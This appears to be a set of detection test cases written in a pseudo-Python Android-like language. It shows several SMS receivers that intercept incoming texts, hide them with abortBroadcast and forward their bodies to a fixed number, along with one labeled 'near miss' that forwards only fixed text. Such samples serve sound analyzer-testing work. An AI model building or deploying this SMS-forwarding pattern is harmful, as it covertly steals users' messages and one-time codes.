permissions("RECEIVE_SMS", "SEND_SMS")

@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"], priority=1000)
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        message = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0]
        self.abortBroadcast()
        report = StringBuilder().append("new: ").append(message.getMessageBody()).toString()
        self.forward(report)
    def forward(self, text: String):
        SmsManager.getDefault().sendTextMessage("15550100", None, text, None, None)

# near miss: hides nothing, and answers with its own words
@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"], priority=1000)
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        message = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0]
        Toast.makeText(context, message.getMessageBody(), 1).show()
        self.forward("new: ")
    def forward(self, text: String):
        SmsManager.getDefault().sendTextMessage("15550100", None, text, None, None)

# also: as several parts, from a thread
@receiver(actions=["android.provider.Telephony.SMS_RECEIVED"], priority=2147483647)
class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        message = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0]
        Thread(Send(message.getDisplayMessageBody())).start()
        self.abortBroadcast()

class Send(Runnable):
    text: String
    def __init__(self, text: String):
        self.text = text
    def run(self):
        SmsManager.getDefault().sendTextMessage("15550100", None, self.text, None, None)

# also: from a receiver that only the code names, as data
@launcher
class Main(Activity):
    def onCreate(self, state):
        super().onCreate(state)
        self.registerReceiver(Inbox(), IntentFilter("android.provider.Telephony.SMS_RECEIVED"))

class Inbox(BroadcastReceiver):
    def onReceive(self, context, intent):
        message = Telephony_Sms_Intents.getMessagesFromIntent(intent)[0]
        self.abortBroadcast()
        self.forward(message.getMessageBody(), 4000)
    def forward(self, text: String, port: short):
        SmsManager.getDefault().sendDataMessage("15550100", None, port, text.getBytes(), None, None)
